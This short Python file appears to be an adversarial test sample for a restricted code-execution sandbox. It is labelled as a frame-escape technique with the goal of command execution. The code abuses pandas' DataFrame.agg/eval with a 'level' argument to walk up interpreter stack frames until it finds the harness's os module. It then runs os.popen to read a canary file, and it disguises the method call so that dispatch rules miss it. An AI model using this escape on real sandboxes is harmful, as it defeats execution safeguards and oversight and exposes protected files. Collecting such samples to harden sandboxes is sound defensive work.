# class: frame_escape
# technique: DataFrame.eval through agg(**{'func': 'eval', 'level': k}): pandas' Scope calls sys._getframe(level) and resolves @names in that frame; looping k climbs into the harness and finds its os; the dispatch method is called as [obj.method][0](...), which is not a method-call node the dispatch rules inspect
# goal: exec
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
stolen = None
for depth in range(1, 48):
    try:
        stolen = [frame.agg][0](**{"func": "eval", "expr": "@os.popen(@cmd).read()", "level": depth,
                              "local_dict": {"cmd": "cat {{CANARY_FILE}}"}})
        break
    except Exception:
        continue
if not stolen:
    raise RuntimeError("no frame with os")
df = pd.DataFrame({"stolen": [stolen], "depth": [depth]})
